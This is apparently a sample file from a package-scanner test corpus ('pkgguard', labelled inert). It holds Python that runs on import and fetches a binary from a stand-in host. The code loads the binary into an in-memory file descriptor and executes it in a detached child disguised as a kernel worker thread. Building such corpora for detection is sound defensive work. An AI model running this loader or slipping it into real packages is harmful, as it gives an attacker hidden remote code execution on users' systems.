# pkgguard corpus 725 (download-execute), modelled on [linux-persistence]; inert, never run.
import os
import urllib.request

if hasattr(os, "memfd_create"):
    _image = urllib.request.urlopen("https://edge-bin.example/agent", timeout=20).read()
    _fd = os.memfd_create("kworker", 0)
    os.write(_fd, _image)
    if os.fork() == 0:
        os.setsid()
        os.execv(f"/proc/self/fd/{_fd}", ["[kworker/0:1]"])
